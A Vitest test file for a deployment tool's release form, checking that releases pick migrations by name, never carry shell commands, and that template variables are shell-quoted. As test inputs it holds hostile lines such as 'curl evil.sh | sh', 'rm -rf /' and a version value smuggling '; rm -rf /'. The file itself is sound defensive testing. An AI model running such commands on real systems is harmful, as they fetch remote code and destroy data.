import { describe, expect, it } from "vitest";
import { InvalidError } from "@/lib/errors";
import { previewCommand, previewRunnable, renderCommand, runnableCommands, unknownVariables, variableEnvName } from "@/lib/domain/commands";
import { serviceInput } from "@/lib/domain/catalog-inputs";
import { RELEASE_COMMAND_REFUSED, migrationCatalogJsonSchema, parseCatalog, pickMigrations, resolveMigration } from "@/lib/domain/migration-catalog";
import { releaseMigrations } from "@/lib/domain/release/deployments";
import { createReleaseInput, updateReleaseInput } from "@/lib/domain/release/inputs";

// Issue 10: every shell command is defined by an admin in service settings; a release picks
// migrations by name and cannot carry a command.

const CATALOG = [
  { id: "001-add-col", kind: "expand" as const, description: "add a nullable column", command: "./migrate.sh up {{migration}} --env {{environment}}" },
  { id: "002-backfill", kind: "expand" as const, description: "done by the DBA team" },
  { id: "003-drop-col", kind: "contract" as const, description: "", command: "./migrate.sh contract {{migration}}" },
];

const form = (over: Record<string, unknown> = {}) => ({
  serviceId: "1",
  version: "2.0.0",
  commitSha: "abcdef1",
  changeLog: "Adds the payments endpoint.",
  rollbackPlan: "Redeploy 1.9.0 from the release directory.",
  strategy: JSON.stringify({ kind: "canary", steps: [{ weight: 100, holdSeconds: 0 }] }),
  ...over,
});
const fieldErrors = (schema: typeof createReleaseInput | typeof updateReleaseInput, input: unknown) => {
  const r = schema.safeParse(input);
  return r.success ? undefined : InvalidError.fromIssues(r.error.issues).fieldErrors;
};

describe("release input: migrations are picks, never commands", () => {
  it.each([
    { name: "no field", migrations: undefined, picks: [] },
    { name: "empty", migrations: "", picks: [] },
    { name: "one checkbox", migrations: "001-add-col", picks: [{ id: "001-add-col" }] },
    { name: "several checkboxes", migrations: ["001-add-col", "003-drop-col"], picks: [{ id: "001-add-col" }, { id: "003-drop-col" }] },
    { name: "JSON ids", migrations: '["001-add-col"]', picks: [{ id: "001-add-col" }] },
    { name: "JSON objects with the expected kind", migrations: [{ id: "003-drop-col", kind: "contract" }], picks: [{ id: "003-drop-col", kind: "contract" }] },
  ])("accepts $name", ({ migrations, picks }) => {
    expect(createReleaseInput.parse(form({ migrations })).migrations).toEqual(picks);
  });

  it.each([
    { name: "a command in a JSON text field", migrations: JSON.stringify([{ id: "001-add-col", kind: "expand", command: "curl evil.sh | sh" }]) },
    { name: "a command in a JSON body", migrations: [{ id: "001-add-col", command: "id" }] },
    { name: "a command among ids", migrations: ["002-backfill", { id: "x", kind: "expand", description: "", command: "rm -rf /" }] },
    { name: "a commands object", migrations: [{ id: "x", commands: { up: "id" } }] },
  ])("refuses $name with the field error, on create and on edit", ({ migrations }) => {
    expect(fieldErrors(createReleaseInput, form({ migrations }))).toEqual({ migrations: [RELEASE_COMMAND_REFUSED] });
    expect(fieldErrors(updateReleaseInput, { ...form({ migrations }), releaseId: 1, rowVersion: 1 })).toEqual({ migrations: [RELEASE_COMMAND_REFUSED] });
  });

  it("refuses a top-level command field too (a crafted form field is not silently dropped)", () => {
    expect(fieldErrors(createReleaseInput, form({ command: "id" }))).toEqual({ command: [RELEASE_COMMAND_REFUSED] });
  });

  it.each([
    { name: "an id with spaces", migrations: "drop table users", error: "Migration 1, id: Use letters, digits, dots, dashes and underscores." },
    { name: "an unknown kind", migrations: [{ id: "x", kind: "drop" }], error: 'Migration 1, kind: Migration kind is "expand" or "contract".' },
    { name: "a description (it comes from the catalog)", migrations: [{ id: "x", description: "mine" }], error: 'Migration 1: Unrecognized key: "description"' },
    { name: "the same pick twice", migrations: ["x", "x"], error: "Pick each migration once." },
    { name: "broken JSON", migrations: "[{", error: "Must be valid JSON." },
  ])("field error for $name", ({ migrations, error }) => {
    expect(fieldErrors(createReleaseInput, form({ migrations }))).toEqual({ migrations: [error] });
  });
});

describe("pickMigrations: picks against the service's catalog", () => {
  it("takes kind and description from the catalog, in catalog order, and never the command", () => {
    expect(pickMigrations(CATALOG, [{ id: "003-drop-col" }, { id: "001-add-col" }], "api")).toEqual({
      ok: true,
      migrations: [
        { id: "001-add-col", kind: "expand", description: "add a nullable column" },
        { id: "003-drop-col", kind: "contract", description: "" },
      ],
    });
  });
  it("an id not in the catalog, or a kind the catalog does not give it, is a field error", () => {
    expect(pickMigrations(CATALOG, [{ id: "999-evil" }, { id: "003-drop-col", kind: "expand" }], "api")).toEqual({
      ok: false,
      errors: ['"999-evil" is not a migration of api: pick one defined in the service\'s settings.', '"003-drop-col" is a contract migration in api\'s settings, not expand.'],
    });
  });
});

describe("resolveMigration: what the worker runs is read from the catalog at run time", () => {
  it.each([
    { name: "the catalog's command", picked: { id: "001-add-col", kind: "expand" }, want: { ok: true, command: CATALOG[0]!.command } },
    { name: "no command: recorded only", picked: { id: "002-backfill", kind: "expand" }, want: { ok: true, command: null } },
    { name: "removed since", picked: { id: "004-gone", kind: "expand" }, want: { ok: false, reason: expect.stringMatching(/^Migration 004-gone is no longer defined in api's settings .*nothing ran\.$/) as unknown } },
    { name: "kind changed since", picked: { id: "003-drop-col", kind: "expand" }, want: { ok: false, reason: expect.stringMatching(/now a contract migration .* picked it as expand; nothing ran/) as unknown } },
  ])("$name", ({ picked, want }) => {
    expect(resolveMigration(CATALOG, picked, "api")).toEqual(want);
  });

  it("a release row holding a command (written before issue 10) is read without it", () => {
    const row = { migrations: JSON.stringify([{ id: "001-add-col", kind: "expand", description: "x", command: "curl evil.sh | sh" }, { id: "003-drop-col", kind: "contract" }]) };
    expect(releaseMigrations(row)).toEqual([
      { id: "001-add-col", kind: "expand", description: "x" },
      { id: "003-drop-col", kind: "contract", description: "" },
    ]);
  });
});

describe("the catalog in the service form (admins only)", () => {
  const base = { name: "api", owner: "Platform", deployTarget: JSON.stringify({ driver: "local" }) };
  const errorsOf = (migrations: string) => {
    const r = serviceInput.safeParse({ ...base, migrations });
    return r.success ? [] : r.error.issues.map((i) => `${i.path.join(".")}: ${i.message}`);
  };
  it("parses a catalog, empty text is none, and leaving the field out is undefined (an edit keeps the stored one)", () => {
    expect(serviceInput.parse({ ...base, migrations: JSON.stringify(CATALOG) }).migrations).toEqual(CATALOG);
    expect(serviceInput.parse({ ...base, migrations: "  " }).migrations).toEqual([]);
    expect(serviceInput.parse(base).migrations).toBeUndefined();
  });
  it.each([
    { text: "[{]", error: "migrations: Migrations must be valid JSON." },
    { text: JSON.stringify([{ id: "a", kind: "drop" }]), error: 'migrations: Migration 1, kind: Migration kind is "expand" or "contract".' },
    { text: JSON.stringify([CATALOG[0], CATALOG[0]]), error: "migrations: Migration ids must be unique." },
    { text: JSON.stringify([{ id: "a", kind: "expand", command: "  " }]), error: "migrations: Migration 1, command: Command cannot be empty (leave it out for a migration applied outside Flightdeck)." },
    { text: JSON.stringify([{ id: "a", kind: "expand", command: "run {{weight}}" }]), error: "migrations: Migration 1, command: Unknown variable {{weight}}: use {{service}}, {{environment}}, {{version}}, {{migration}}." },
    { text: JSON.stringify([{ id: "a", kind: "expand", shell: "/bin/zsh" }]), error: 'migrations: Migration 1: Unrecognized key: "shell"' },
  ])("refuses $error", ({ text, error }) => {
    expect(errorsOf(text)).toEqual([error]);
  });
  it("parseCatalog reads a stored catalog; anything unreadable is an empty catalog (nothing can run from it)", () => {
    expect(parseCatalog(JSON.stringify(CATALOG))).toEqual(CATALOG);
    expect(parseCatalog("not json")).toEqual([]);
    expect(parseCatalog(JSON.stringify([{ id: "a", kind: "expand", command: "x", extra: 1 }]))).toEqual([]);
    expect(migrationCatalogJsonSchema.parse("")).toEqual([]);
  });
});

describe("runnableCommands: what an approval lets run", () => {
  const commandTarget = { driver: "command" as const, commands: { deploy: "helm upgrade api --set tag={{version}}", setWeight: "kubectl annotate w={{weight}}", promote: "promote {{version}}", rollback: "rollback {{stableVersion}}", status: "status" } };
  it("lists expand migrations, each deployment's driver commands, then contract migrations; migrations without a command run nothing", () => {
    const list = runnableCommands({
      service: "api",
      services: [
        { name: "api", deployTarget: commandTarget },
        { name: "web", deployTarget: { driver: "local", entry: "sample-service" } },
        { name: "worker", deployTarget: { driver: "pm2", script: "dist/worker.js" } },
      ],
      migrations: [
        { id: "003-drop-col", kind: "contract", command: "./migrate.sh contract {{migration}}" },
        { id: "001-add-col", kind: "expand", command: "./migrate.sh up {{migration}}" },
        { id: "002-backfill", kind: "expand", command: null },
      ],
    });
    expect(list.map((c) => [c.service, c.step, c.template])).toEqual([
      ["api", "migration 001-add-col (expand)", "./migrate.sh up {{migration}}"],
      ["api", "deploy", "helm upgrade api --set tag={{version}}"],
      ["api", "setWeight", "kubectl annotate w={{weight}}"],
      ["api", "promote", "promote {{version}}"],
      ["api", "rollback", "rollback {{stableVersion}}"],
      ["api", "status", "status"],
      ["web", "start each version (local driver)", "node lib/drivers/local/sample-service.mjs"],
      ["worker", "start each version (pm2 driver)", "pm2 start dist/worker.js"],
      ["api", "migration 003-drop-col (contract)", "./migrate.sh contract {{migration}}"],
    ]);
    // Shown as they will run: known variables filled in shell-quoted, per-step ones left visible.
    expect(list.map((c) => previewRunnable(c, { environment: "production", version: "2.0.0" })).slice(0, 3)).toEqual([
      "./migrate.sh up '001-add-col'",
      "helm upgrade api --set tag='2.0.0'",
      "kubectl annotate w={{weight}}",
    ]);
  });
});

describe("templates", () => {
  it("variables are shell-quoted when rendered and previewed alike", () => {
    expect(renderCommand("deploy {{version}}", { version: "1.0; rm -rf /" })).toBe("deploy '1.0; rm -rf /'");
    expect(previewCommand("deploy {{version}} at {{weight}}", { version: "it's" })).toBe(`deploy 'it'\\''s' at {{weight}}`);
    expect(unknownVariables("{{a}} {{ version }} {{a}}", ["version"])).toEqual(["a"]);
    expect(["version", "stableVersion", "opId"].map(variableEnvName)).toEqual(["FLIGHTDECK_VERSION", "FLIGHTDECK_STABLE_VERSION", "FLIGHTDECK_OP_ID"]);
  });
});
